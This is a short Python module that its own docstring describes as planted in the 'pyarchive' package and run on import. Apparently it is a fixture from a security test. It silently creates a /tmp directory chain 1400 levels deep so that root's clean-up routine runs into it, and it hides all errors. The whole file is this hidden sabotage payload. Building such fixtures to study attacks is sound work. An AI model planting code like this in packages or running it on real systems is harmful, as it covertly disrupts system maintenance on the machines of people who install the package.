"""Planted in pyarchive (imported with the package): inside a check, as sse-runner, leave
a file 1400 folders deep in /tmp for root's clean-up to meet."""

import contextlib
import os
from pathlib import Path

TOP = Path("/tmp/integ-deep")


def main():
    if os.getuid() == 1000 or TOP.exists():
        return
    fd = os.open("/tmp", os.O_RDONLY | os.O_DIRECTORY)
    for name in [TOP.name] + ["d"] * 1400:
        os.mkdir(name, dir_fd=fd)
        inner = os.open(name, os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
        os.close(fd)
        fd = inner
    os.close(os.open("deep.txt", os.O_CREAT | os.O_WRONLY, 0o644, dir_fd=fd))
    os.close(fd)


with contextlib.suppress(OSError):
    main()
